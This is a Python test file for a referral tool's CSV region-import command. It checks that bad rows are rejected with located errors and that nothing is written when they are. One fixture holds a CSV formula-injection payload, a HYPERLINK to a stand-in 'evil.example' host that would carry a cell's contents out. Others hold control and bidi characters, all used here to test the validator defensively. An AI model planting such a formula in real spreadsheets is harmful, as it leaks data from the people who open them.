"""``regions import`` checks the region a CSV gives as ``validate`` checks a region file, and on any problem writes
nothing: the problems at the CSV's rows and columns, exit 2, the region file as it was (R2 of the second reliability
probe)."""

from __future__ import annotations

import csv
import datetime
import io
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import CliRunner

from samen_refer.checks.load import open_region
from samen_refer.checks.validate import validate
from samen_refer.cli.app import app
from samen_refer.format.library import Library
from samen_refer.format.region_csv import export_csv
from tests.conftest import REPO

Rows = list[list[str]]
NIJMEGEN = open_region(Library.open(REPO / "pathways"), "nijmegen")
HEADER, ROW = list(csv.reader(io.StringIO(export_csv(NIJMEGEN))))[:2]
TODAY = datetime.date.today()


def _with(**cells: str) -> list[str]:
    """The nijmegen row with some cells changed (``name_nl`` for the column ``name.nl``)."""
    row = list(ROW)
    for column, value in cells.items():
        row[HEADER.index(column.replace("_", ".", 1) if column.endswith(("_nl", "_en")) else column)] = value
    return row


def _copies(n: int) -> Rows:
    return [_with(id=f"c{i}") for i in range(n)]


# probe -> the rows under the header, and the problems ("row:column [check]") in the order they are told
PROBES: dict[str, tuple[Callable[[], Rows], list[str]]] = {
    "dup": (lambda: [ROW, ROW], ["3:1 [duplicate-id]"]),
    "national-id": (lambda: [_with(id="politie-112")], ["2:1 [duplicate-id]"]),
    "bidi": (
        lambda: [_with(name_nl="Zorg\u202ecafé", does_nl="\x1b[31m rood \x07")],
        ["2:2 [text-control-char]", "2:4 [text-control-char]"],
    ),
    "nul": (lambda: [_with(name_nl="Zorg\x00café")], ["2:2 [text-control-char]"]),
    "formula": (lambda: [_with(name_nl='=HYPERLINK("https://evil.example/?d="&D2,"x")')], ["2:2 [text-formula]"]),
    "future": (lambda: [_with(verified="9999-12-31")], ["2:17 [contact-verified]"]),
    "too-old": (
        lambda: [_with(verified=(TODAY - datetime.timedelta(days=800)).isoformat())],
        ["2:17 [contact-stale]"],
    ),
    "serves-unknown": (
        lambda: [_with(serves="nosuchq=x,y", after="no-such-contact")],
        ["2:22 [unknown-question]", "2:24 [unknown-contact]"],
    ),
    "option-unknown": (lambda: [_with(serves="residence=nosuchoption")], ["2:22 [unknown-option]"]),
    "near1mib": (lambda: _copies(790), ["1:1 [file-too-large]"]),  # 870 KB of CSV, over 1 MiB of YAML
    "long-row": (lambda: [[*ROW, "extra", "more"]], ["2:25 [csv-cell]"]),
}


def _library(tmp_path: Path) -> Path:
    pathways = tmp_path / "pathways"
    shutil.copytree(REPO / "pathways", pathways)
    return pathways


def _csv(path: Path, rows: Rows) -> Path:
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out, lineterminator="\n").writerows([HEADER, *rows])
    return path


def _import(pathways: Path, csv_file: Path, *more: str) -> tuple[int, str, str]:
    target = pathways / "regions" / "nijmegen.yaml"
    command = ["regions", "import", str(csv_file), "--region", "nijmegen", "--pathways", str(pathways)]
    result = CliRunner().invoke(app, [*command, "-o", str(target), "--force", "--lang", "en", *more])
    return result.exit_code, result.stdout, result.stderr


@pytest.mark.parametrize("probe", sorted(PROBES))
def test_an_import_with_a_problem_validate_finds_writes_nothing(tmp_path: Path, probe: str) -> None:
    rows, expected = PROBES[probe]
    pathways = _library(tmp_path)
    before = {path: path.read_bytes() for path in pathways.rglob("*") if path.is_file()}
    csv_file = _csv(tmp_path / "x.csv", rows())
    code, out, err = _import(pathways, csv_file)
    assert code == 2
    assert out == ""
    told = [
        re.fullmatch(rf"{re.escape(str(csv_file))}:(\d+:\d+): error: .* (\[[a-z-]+\])", line)
        for line in err.splitlines()
    ]
    assert [" ".join(match.groups()) for match in told if match] == expected
    assert err.splitlines()[-1] == "samen-refer: Nothing was written. Fix the CSV and import it again."
    assert {path: path.read_bytes() for path in pathways.rglob("*") if path.is_file()} == before  # no temp file


def test_a_header_alone_would_empty_the_region_so_it_needs_allow_empty(tmp_path: Path) -> None:
    pathways = _library(tmp_path)
    target = pathways / "regions" / "nijmegen.yaml"
    before = target.read_bytes()
    csv_file = _csv(tmp_path / "x.csv", [])
    code, out, err = _import(pathways, csv_file)
    assert (code, out) == (2, "")
    assert err.splitlines() == [
        f"samen-refer: '{csv_file}' has no contacts: importing it would remove the 1 contact(s) of region 'nijmegen'; "
        "nothing was written",
        "  Add --allow-empty if the region is to have no contacts of its own.",
    ]
    assert target.read_bytes() == before
    code, out, err = _import(pathways, csv_file, "--allow-empty")
    assert (code, err) == (0, "")
    assert "contacts: []\n" in target.read_text(encoding="utf-8")
    assert [p for p in validate([pathways], TODAY).problems if p.path.endswith("nijmegen.yaml")] == []
    code, _, _ = _import(pathways, csv_file)  # a region that has no contacts loses nothing: no flag needed
    assert code == 0


def test_a_warning_is_told_and_the_file_is_written(tmp_path: Path) -> None:
    pathways = _library(tmp_path)
    old = (TODAY - datetime.timedelta(days=400)).isoformat()
    csv_file = _csv(tmp_path / "x.csv", [_with(verified=old)])
    code, out, err = _import(pathways, csv_file)
    assert code == 0
    assert err == (
        f"{csv_file}:2:17: warning: contact 'zorgcafe-nijmegen' was verified 400 days ago ({old}); check its facts "
        "again [contact-stale]\n"
    )
    assert out == "Saved to " + str(pathways / "regions" / "nijmegen.yaml") + ".\n"
    assert f"verified: {old}" in (pathways / "regions" / "nijmegen.yaml").read_text(encoding="utf-8")


def test_the_problems_are_told_in_dutch_by_default(tmp_path: Path) -> None:
    pathways = _library(tmp_path)
    csv_file = _csv(tmp_path / "x.csv", [_with(name_nl="=1+1")])
    command = ["regions", "import", str(csv_file), "--region", "nijmegen", "--pathways", str(pathways)]
    result = CliRunner().invoke(app, command)
    assert result.exit_code == 2
    first, last = result.stderr.splitlines()
    assert first.startswith(f"{csv_file}:2:2: fout: ") and first.endswith("[text-formula]")
    assert last == "samen-refer: Er is niets geschreven. Verbeter het CSV-bestand en lees het opnieuw in."
